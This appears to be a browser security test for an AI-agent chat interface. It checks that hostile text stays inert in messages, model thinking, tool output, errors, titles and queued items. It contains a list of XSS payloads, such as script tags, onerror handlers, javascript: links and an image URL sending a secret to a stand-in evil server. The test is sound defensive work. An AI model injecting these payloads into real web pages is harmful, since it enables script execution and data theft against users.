/** H20: text that would like to be more than text, in every place of the real page that shows one. */
import type { Page } from "playwright-core";
import { expect, test } from "vitest";
import { makeProject } from "../project.ts";
import { createFakeProvider } from "../provider/fake-provider.ts";
import type { FakeRequest } from "../provider/request-view.ts";
import type { Reply } from "../provider/script.ts";
import { launchBrowser, shot, visit } from "./browser.ts";
import { startEvilServer } from "./evil-server.ts";
import { Follower } from "./follower.ts";
import { Product } from "./product.ts";
import { call, freshText, say } from "./scripted-agent.ts";
import { TabPage } from "./tab-page.ts";

const hostileTexts = (evil: string): readonly string[] => [
  "<script>window.P=1</script>",
  `<script src="${evil}/p.js"></script>`,
  '<img src=x onerror="window.P=1">',
  "<svg/onload=window.P=1>",
  '<iframe srcdoc="<script>parent.P=1</script>"></iframe>',
  `<iframe src="${evil}/frame"></iframe>`,
  "[x](javascript:window.P=1)",
  "[x](data:text/html,<script>1</script>)",
  `![x](${evil}/p.png?q=SECRET)`,
  `<img src="${evil}/p?q=1">`,
  `<link rel=stylesheet href="${evil}/s.css"><style>body{background:url(${evil}/b.png)}</style>`,
  "$\\href{javascript:alert(1)}{x}$",
  `<form action="${evil}"><button>ok</button></form>`,
  `<object data="${evil}/o"></object><embed src="${evil}/e">`,
];

/** Each message is answered by itself: thought, said, and given out by a command, and then the provider fails with it. */
const hostileModel = (texts: readonly string[]) => {
  const numbered = (words: string): string => texts[Number(/number (\d+)$/m.exec(words)?.[1])] ?? "";
  return (request: FakeRequest): Reply => {
    const fresh = freshText(request);
    const text = numbered(fresh);
    if (fresh.includes("wait")) return { blocks: [call("bash", { command: `echo '${text}'` })] };
    if (text === "") return { fail: { kind: "status", status: 400, message: numbered(request.lastUserText) } };
    return {
      blocks: [
        { type: "thinking", text },
        say(`${text}\n\n- ${text}\n\n> ${text}\n\n| ${text} |\n|---|\n| ${text} |`),
        call("bash", { command: `cat <<'END'\n${text}\nEND` }),
      ],
    };
  };
};

/** What of the page's content is more than text, and what a script in the page could do. */
function inspect(page: Page) {
  return page.evaluate(() => {
    const own = "[data-testid=composer], [data-testid=permission-prompt] form";
    const elements = [
      ...document.querySelectorAll("#app :is(script, iframe, object, embed, form, img, link, style, math, base)"),
    ];
    const attributes = [...document.querySelectorAll("#app *")].flatMap((element) =>
      element.getAttributeNames().filter((name) => name.startsWith("on") || name === "srcdoc"),
    );
    const links = [...document.querySelectorAll("#app a[href]")].map((link) => link.getAttribute("href") ?? "");
    return {
      ran: "P" in window,
      elements: elements.filter((element) => !element.matches(own)).map((element) => element.outerHTML),
      attributes,
      badLinks: links.filter((href) => !/^(#|https?:\/\/)/.test(href)),
      cookies: document.cookie,
      stored: JSON.stringify([{ ...localStorage }, { ...sessionStorage }]),
    };
  });
}

const harmless = { ran: false, elements: [], attributes: [], badLinks: [], cookies: "" };

test("H20: hostile text stays text as message, thinking, answer, output, error, title, question and queued message", async () => {
  await using project = await makeProject("empty");
  await using evil = await startEvilServer();
  const texts = hostileTexts(evil.url);
  await using provider = await createFakeProvider({ models: ["claude-test"], reply: hostileModel(texts) });
  await using product = await Product.start({ provider });
  await using browser = await launchBrowser();
  await using visitor = await visit(browser, product.url);
  const page = new TabPage(visitor.page);
  const policy = (await visitor.page.goto(product.url))?.headers()["content-security-policy"] ?? "";
  expect(policy).toContain("default-src 'none'");
  expect(policy).not.toMatch(/unsafe|\*/);
  await page.signIn(product.link);
  for (const title of texts) await product.api.newTab({ cwd: project.dir, title });
  const where = { cwd: project.dir, model: "anthropic/claude-test" };
  const record = await product.api.newTab({ ...where, permissions: "allow" });
  await page.goTo(record.id);

  {
    using follower = await Follower.on(product.api, record.id);
    for (const [index, text] of texts.entries()) {
      const sent = await product.api.send(record.id, `${text} number ${index}`);
      await follower.untilAnswered(sent.id);
    }
  }
  // The last one is left open, in front of a question, with everything queued behind it.
  await product.api.ask("PATCH", `/tabs/${record.id}`, { permissions: "ask" });
  await product.api.send(record.id, `wait number 0`);
  await page.at("permission-prompt").waitFor();
  for (const text of texts) await product.api.send(record.id, text, { delivery: "queue" });
  await page
    .at("queue-card")
    .nth(texts.length - 1)
    .waitFor();
  await unfoldAll(visitor.page);
  await shot(visitor.page, "desktop-hostile");

  expect(await inspect(visitor.page)).toMatchObject(harmless);
  const shown = async (testId: string): Promise<string> => (await page.at(testId).allTextContents()).join("\n");
  for (const text of texts) {
    for (const place of ["user-message", "thinking", "tool-body", "event", "tab-row", "queue-card"]) {
      expect(await shown(place), place).toContain(text);
    }
  }
  expect(await shown("assistant-text")).toContain("<script>window.P=1</script>");
  await visitor.page.reload();
  await page.at("permission-prompt").waitFor();
  await unfoldAll(visitor.page);
  const after = await inspect(visitor.page);
  expect(after).toMatchObject(harmless);
  expect(after.stored).not.toContain(product.api.token);
  expect(evil.visits).toEqual([]);
  expect(visitor.complaints).toEqual([]);
});

/** Opens every card and every thought. */
async function unfoldAll(page: Page): Promise<void> {
  await page.evaluate(() => {
    const folded = ":is([data-testid=tool-card], [data-testid=thinking]) button[aria-expanded=false]";
    for (const button of document.querySelectorAll<HTMLElement>(folded)) button.click();
  });
  await page.getByTestId("tool-body").first().waitFor();
}
